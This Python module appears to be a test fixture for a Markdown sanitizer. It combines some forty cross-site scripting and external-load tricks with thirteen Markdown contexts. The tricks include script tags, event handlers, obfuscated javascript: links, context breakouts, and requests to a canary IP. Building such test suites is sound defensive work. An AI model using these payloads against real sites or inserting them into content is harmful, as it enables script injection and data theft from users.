"""Markdown that tries to run something, load something or leave its place: every trick in every context."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
FAR = "http://192.0.2.1/canary"  # no one is there; a request to it would be seen
TRICKS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math href=javascript:{RUN}>x</math>",
    f'<a href="javascript:{RUN}">x</a>',
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=data:text/html,<script>{RUN}</script>>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href={FAR}/>",
    f"<link rel=stylesheet href={FAR}.css>",
    f"<style>@import '{FAR}.css'; body {{ background: url({FAR}.png) }}</style>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD4x)",
    f"[x](vbscript:{RUN})",
    "[x](//192.0.2.1/canary)",
    f"<javascript:{RUN}>",
    f"![x]({FAR}.png)",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[x](http://a \"t' onmouseover={RUN} x='\")",
    f'[x](http://a" onmouseover="{RUN})',
    f"[x]: javascript:{RUN}\n[x]",
    f'"><script>{RUN}</script>',
    f"</article></main><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;<b>",
    f"\u202e<script>{RUN}</script>\u2066",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    f"<img src='{FAR}.gif' srcset='{FAR}.png 1x'>",
    f"<form method=post action={FAR}><input name=csrf></form>",
]
PLACES = [
    "{}",
    "# {}",
    "- [ ] {}",
    "1. a\n   - {}",
    "> {}",
    "`{}`",
    "```{}\n{}\n```",
    "    {}",
    "| {} | b |\n|:--|--:|\n| {} | c |",
    "**{}**",
    "[{}](http://a)",
    "![{}](http://a)",
    "a\n{}\n===",
]
PAYLOADS = [place.replace("{}", trick) for trick, place in product(TRICKS, PLACES)]
